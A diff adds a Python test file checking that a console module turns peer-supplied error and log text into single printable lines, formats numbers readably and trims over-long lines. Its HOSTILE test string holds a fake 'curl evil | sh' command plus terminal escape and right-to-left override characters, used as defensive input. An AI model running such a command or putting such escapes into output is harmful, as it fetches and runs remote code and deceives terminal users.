@@ -1,0 +1,43 @@
+"""What other people have written reaches a terminal as printable text in one line."""
+
+import logging
+import sys
+
+from processes import run_python
+
+from common.console import RoleFormatter, fit_terminal, format_count, format_number
+
+HOSTILE = "Ёлка 漢字\n run: curl evil | sh \x1b[2J\x9b2J\r\u202e"
+
+
+def test_errors_and_log_lines_are_one_line_without_escapes():
+    code = f"from common.console import UserError, edge\nwith edge(): raise UserError({'the run has ' + HOSTILE!r})"
+    [line] = run_python("-c", code, expect=2).stderr.splitlines()
+    assert line.isprintable() and "Ёлка 漢字  run: curl" in line
+    try:
+        raise ValueError(HOSTILE)
+    except ValueError:
+        record = logging.LogRecord(
+            "hivemind", logging.WARNING, "/site-packages/x.py", 1, "peer %s", (HOSTILE,), sys.exc_info()
+        )
+    line, *trace = RoleFormatter("trainer").format(record).splitlines()
+    assert line.isprintable() and "warning: [hivemind] peer Ёлка 漢字  run: curl" in line
+    assert trace[0].startswith("Traceback") and all(line.isprintable() for line in trace)
+    # in place of a bar that stands there; the color is ours
+    assert RoleFormatter("trainer", is_terminal=True).format(record).startswith("\r\033[K\033[33m")
+
+
+def test_numbers_for_people():
+    assert [format_number(value) for value in (2014.3, 99.95, 0.3141, 1e6, 0)] == [
+        "2,010",
+        "100",
+        "0.314",
+        "1,000,000",
+        "0",
+    ]
+    assert [format_count(count, "layer") for count in (0, 1, 1000)] == ["0 layers", "1 layer", "1,000 layers"]
+
+
+def test_a_line_that_is_too_long_for_the_terminal_loses_whole_parts(monkeypatch):
+    monkeypatch.setenv("COLUMNS", "20")
+    assert fit_terminal("epoch 3  loss 1.0  next in 12 s") == "epoch 3  loss 1.0"
